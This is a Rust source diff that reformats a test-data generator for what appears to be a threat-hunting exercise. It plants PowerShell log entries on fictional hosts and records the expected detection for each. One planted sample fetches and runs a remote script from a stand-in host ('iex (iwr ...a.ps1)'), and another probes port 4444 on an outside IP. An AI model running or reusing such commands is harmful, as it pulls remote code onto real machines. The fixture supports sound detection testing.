@@ -45,7 +45,11 @@ const BENIGN_SCRIPTS: [&str; 8] = [
 /// Planted script blocks: (host, text, what the hunt must do).
 pub const POWERSHELL_PLANTS: &[(&str, &str, &str)] = &[
     ("WS-FIN-023", "Test-NetConnection -ComputerName 45.77.65.211 -Port 4444 -InformationLevel Quiet", "found: uncommon port 4444"),
-    ("WS-HR-041", "$r = Test-NetConnection -ComputerName files.contoso-cdn.net -port 8443\nif ($r.TcpTestSucceeded) { iex (iwr http://files.contoso-cdn.net:8443/a.ps1) }", "found: uncommon port 8443"),
+    (
+        "WS-HR-041",
+        "$r = Test-NetConnection -ComputerName files.contoso-cdn.net -port 8443\nif ($r.TcpTestSucceeded) { iex (iwr http://files.contoso-cdn.net:8443/a.ps1) }",
+        "found: uncommon port 8443",
+    ),
     ("WS-OPS-004", "Test-NetConnection -ComputerName www.microsoft.com -Port 443 -InformationLevel Detailed", "ignored: port 443"),
     ("WS-OPS-004", "Test-NetConnection -ComputerName intranet.contoso.com -Port 80 | Select-Object TcpTestSucceeded", "ignored: port 80"),
     ("WS-ENG-088", "Test-NetConnection -ComputerName dc01.contoso.com", "ignored: no -Port"),
@@ -53,7 +57,14 @@ pub const POWERSHELL_PLANTS: &[(&str, &str, &str)] = &[
 ];
 
 fn script_block(rng: &mut Rng, time: i64, host: &str, text: &str) -> Row {
-    let id = format!("{:08x}-{:04x}-4{:03x}-a{:03x}-{:012x}", rng.next_u64() as u32, rng.below(0x10000), rng.below(0x1000), rng.below(0x1000), rng.below(1 << 48));
+    let id = format!(
+        "{:08x}-{:04x}-4{:03x}-a{:03x}-{:012x}",
+        rng.next_u64() as u32,
+        rng.below(0x10000),
+        rng.below(0x1000),
+        rng.below(0x1000),
+        rng.below(1 << 48)
+    );
     Row { time, cells: vec![host.into(), 4104.into(), text.into(), id.into(), "".into(), 1.into(), 1.into()] }
 }
 
